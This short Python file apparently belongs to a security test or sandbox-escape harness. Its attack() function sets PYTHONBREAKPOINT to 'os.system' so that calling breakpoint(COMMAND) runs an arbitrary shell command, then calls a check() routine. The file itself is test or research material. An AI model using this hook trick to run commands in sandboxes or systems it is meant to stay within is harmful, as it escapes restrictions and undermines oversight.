import os

from target import COMMAND, check


def attack():
    os.environ["PYTHONBREAKPOINT"] = "os.system"
    breakpoint(COMMAND)
    return check()
